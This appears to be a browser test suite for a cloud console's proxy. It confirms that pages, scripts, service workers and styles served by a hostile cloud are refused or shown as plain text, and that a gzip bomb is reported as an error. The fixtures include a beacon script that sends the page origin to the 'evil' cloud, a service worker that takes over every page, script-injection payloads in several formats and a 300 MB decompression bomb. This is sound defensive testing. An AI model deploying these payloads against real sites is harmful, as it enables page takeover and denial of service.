// A cloud that would take over the page: what it answers is never a document, a script or a worker of the console's origin.
import assert from "node:assert/strict";
import { after, before, beforeEach, describe, test } from "node:test";
import { gzipSync } from "node:zlib";
import { launchBrowser } from "../../src/xtask/browser.mjs";
import { startCloud, startServer } from "../server/helpers.mjs";
import * as steps from "./steps.mjs";
import { visitor } from "./visitor.mjs";

// Says in the page that it ran, and to its cloud who it is there.
const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/os-keypairs/loot-of-" + self.origin.replace(/\\W/g, "-"), { headers: { "x-ecs-password-console": "1" } });`;
const WORKER = `${SCRIPT} self.addEventListener("fetch", (event) => event.respondWith(new Response("taken over", { headers: { "content-type": "text/html" } })));`;
const BASE = "/proxy/evil/compute/v2.1/os-keypairs";
const ANSWERS = {
  "page.html": ["text/html", `<!doctype html><title>evil</title><script>${SCRIPT}</script><script src="${BASE}/run.js"></script><h1>evil</h1>`],
  "page.svg": ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script href="${BASE}/run.js"/><script>${SCRIPT}</script></svg>`],
  "page.xhtml": ["application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script src="${BASE}/run.js"></script></html>`],
  "page.xml": ["text/xml", `<?xml-stylesheet href="${BASE}/page.svg"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script src="${BASE}/run.js"/></x>`],
  "page.none": [undefined, `<!doctype html><script src="${BASE}/run.js"></script>`],
  "run.js": ["text/javascript", SCRIPT],
  "module.js": ["text/javascript", `export default 1; ${SCRIPT}`],
  "worker.js": ["text/javascript", WORKER],
  "talk.js": ["text/javascript", "postMessage(1);"],
  "style.css": ["text/css", "body { display: none }"],
};
const PAGES = Object.keys(ANSWERS).filter((name) => name.startsWith("page."));

const cloud = await startCloud((request, response) => {
  const [type, body] = ANSWERS[request.url.split("/").at(-1)] ?? ["application/json", "{}"];
  response.writeHead(200, { ...(type && { "content-type": type }), "service-worker-allowed": "/" }).end(body);
});
const origin = await startServer({ clouds: [{ name: "evil", kind: "openstack", identity: cloud.url, compute: cloud.url }], names: ["console.test"] });
// Of another machine, without TLS: there a browser says nothing by itself of what a request is for.
const plain = origin.replace("127.0.0.1", "console.test");

let browser;
before(async () => (browser = await launchBrowser("--host-resolver-rules=MAP console.test 127.0.0.1")));
after(() => browser?.close());
beforeEach(() => (cloud.received.length = 0));

async function visit(look) {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    return await look(page, context);
  } finally {
    await context.close();
  }
}

const asked = () => cloud.received.map(({ url }) => url);

describe("opened by a link", () => {
  for (const [where, from] of [["on this machine", origin], ["on another, without TLS", plain]]) {
    for (const name of PAGES) {
      test(`${name}, ${where}, is refused and never asked for`, () =>
        visit(async (page) => {
          const answer = await page.goto(`${from}${BASE}/${name}`);
          assert.equal(answer.status(), from === origin ? 403 : 400);
          assert.equal((await answer.json()).error.code, from === origin ? "Proxy.0014" : "Proxy.0015");
          const sent = await answer.request().allHeaders();
          assert.equal(sent["sec-fetch-dest"], from === origin ? "document" : undefined, "what this test is about");
          assert.equal(await page.evaluate(() => globalThis.ran), undefined);
          assert.equal(await page.evaluate(() => globalThis.origin), "null", "the answer belongs to no origin");
          assert.deepEqual(asked(), []);
        }));
    }
  }

  for (const name of PAGES) {
    test(`${name} runs nothing even where a request for it gets through`, () =>
      visit(async (page) => {
        await page.route(`**${BASE}/**`, async (route) => {
          await route.continue({ headers: { ...(await route.request().allHeaders()), "x-ecs-password-console": "1" } });
        });
        const answer = await page.goto(`${plain}${BASE}/${name}`);
        assert.equal(answer.status(), 200);
        assert.equal(await answer.text(), ANSWERS[name][1]);
        assert.deepEqual(asked(), [`/v2.1/os-keypairs/${name}`], "none of its scripts is asked for");
        const shown = await page.evaluate(() => ({ ran: globalThis.ran, origin: globalThis.origin, type: document.contentType, text: document.body.innerText }));
        assert.deepEqual(shown, { ran: undefined, origin: "null", type: "text/plain", text: ANSWERS[name][1] });
      }));
  }
});

/** In a document of the console's origin: what it may have from there by its policy, tried with an address of the cloud. */
const ATTEMPTS = {
  "a service worker": ["worker.js", (url) => {
    const trusted = globalThis.trustedTypes.createPolicy("ecs-password-worker", { createScriptURL: (text) => text });
    return navigator.serviceWorker.register(trusted.createScriptURL(url), { scope: url });
  }],
  "a service worker that is a module": ["worker.js", (url) => {
    const trusted = globalThis.trustedTypes.createPolicy("ecs-password-worker", { createScriptURL: (text) => text });
    return navigator.serviceWorker.register(trusted.createScriptURL(url), { scope: url, type: "module" });
  }],
  "a worker": ["talk.js", (url) => {
    const trusted = globalThis.trustedTypes.createPolicy("ecs-password-worker", { createScriptURL: (text) => text });
    return new Promise((resolve, reject) => {
      const worker = new globalThis.Worker(trusted.createScriptURL(url));
      worker.onerror = () => reject(new Error("refused"));
      worker.onmessage = resolve;
    });
  }],
  "a script": ["run.js", (url) => {
    const trusted = globalThis.trustedTypes.createPolicy("ecs-password-worker", { createScriptURL: (text) => text });
    return new Promise((resolve, reject) => {
      const script = Object.assign(document.createElement("script"), { src: trusted.createScriptURL(url), onload: resolve, onerror: () => reject(new Error("refused")) });
      document.head.append(script);
    });
  }],
  "a module": ["module.js", (url) => import(url)],
  "a style": ["style.css", (url) =>
    new Promise((resolve, reject) => {
      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url, onload: resolve, onerror: () => reject(new Error("refused")) });
      document.head.append(link);
    })],
  "an image": ["page.svg", (url) =>
    new Promise((resolve, reject) => {
      document.body.append(Object.assign(new globalThis.Image(), { src: url, onload: resolve, onerror: () => reject(new Error("refused")) }));
    })],
};

describe("used by a document of the console's origin", () => {
  for (const [what, [name, attempt]] of Object.entries(ATTEMPTS)) {
    test(`${what} is refused and never asked for`, () =>
      visit(async (page, context) => {
        await page.goto(`${origin}/clouds.json`);
        const outcome = await page.evaluate(attempt, `${BASE}/${name}`).then(() => "it is there", () => "refused");
        assert.equal(outcome, "refused");
        assert.deepEqual(asked(), []);
        assert.equal(await page.evaluate(() => globalThis.ran), undefined);
        assert.deepEqual(context.serviceWorkers(), []);
      }));
  }

  test("its page's own request is answered, as data", () =>
    visit(async (page) => {
      await page.goto(`${origin}/clouds.json`);
      const read = (url) => fetch(url, { headers: { "x-ecs-password-console": "1" } }).then(async (answer) => [answer.headers.get("content-type"), await answer.text()]);
      assert.deepEqual(await page.evaluate(read, `${BASE}/page.html`), ["text/plain", ANSWERS["page.html"][1]]);
    }));
});

test("300 MB in 0.3 MB of gzip are an error that says so, and the page goes on", async () => {
  const bomb = gzipSync(Buffer.alloc(300e6, 0xff));
  assert.ok(bomb.length < 400_000);
  let lists = 0;
  const huge = await startCloud((request, response) => {
    response.setHeader("content-type", "application/json");
    if (request.url.startsWith("/v3/")) response.end(JSON.stringify({ token: { user: { name: "somebody" }, roles: [] } }));
    else if (!request.url.includes("/servers/detail")) response.end(JSON.stringify({ version: { version: "2.96", min_version: "2.1" } }));
    else if ((lists += 1) > 1) response.end(JSON.stringify({ servers: [] }));
    else response.writeHead(200, { "content-encoding": "gzip" }).end(bomb);
  });
  const from = await startServer({ sandbox: false, clouds: [{ name: "huge", kind: "openstack", identity: huge.url, compute: huge.url }] });
  await visitor(from, async (page) => {
    await steps.signInWithToken(page, "token", "0".repeat(32));
    const error = page.getByRole("group", { name: "Error" });
    assert.match(await error.innerText(), /the answer of cloud huge is larger than 8388608 bytes/);
    await error.getByRole("button", { name: "Try again" }).click();
    await page.getByText("There are no servers in this project").waitFor();
  });
});
